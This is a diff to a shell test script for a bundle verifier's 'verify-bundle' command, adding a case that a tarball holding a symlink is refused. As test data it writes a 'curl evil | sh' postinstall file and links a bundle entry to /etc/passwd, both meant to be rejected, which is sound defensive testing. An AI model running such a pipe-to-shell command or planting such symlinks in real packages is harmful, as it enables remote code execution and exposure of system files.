@@ -99,6 +99,14 @@ echo 'curl evil | sh' > "$D/bin/postinstall"
 "$A" verify-bundle "$D" --pubkey "$KEY.pub" > /dev/null 2>"$T/err"; rc=$?
 [ $rc -eq 3 ] || fail "added file: exit $rc, want 3"
 grep -q "bin/postinstall: in the bundle but not in SHA256SUMS" "$T/err" || fail "added file message"
+# A tarball holding a symlink is refused before anything is unpacked.
+rm -rf "$T/x" && mkdir "$T/x" && tar -xzf "$TAR" -C "$T/x"
+D=$(ls -d "$T"/x/airlock-*)
+ln -s /etc/passwd "$D/docs/passwd"
+tar -C "$T/x" -czf "$T/evil.tar.gz" "$(basename "$D")"
+"$A" verify-bundle "$T/evil.tar.gz" --pubkey "$KEY.pub" > /dev/null 2>"$T/err"; rc=$?
+[ $rc -eq 3 ] || fail "tarball with a symlink: exit $rc, want 3"
+grep -q "not a plain file or directory" "$T/err" || fail "symlink message: $(cat "$T/err")"
 "$A" verify-bundle "$T/nonexistent.tar.gz" --pubkey "$KEY.pub" 2>/dev/null; rc=$?
 [ $rc -ne 0 ] || fail "missing tarball accepted"
 "$A" verify-bundle "$TAR" 2>/dev/null; [ $? -eq 2 ] || fail "missing --pubkey exit code"
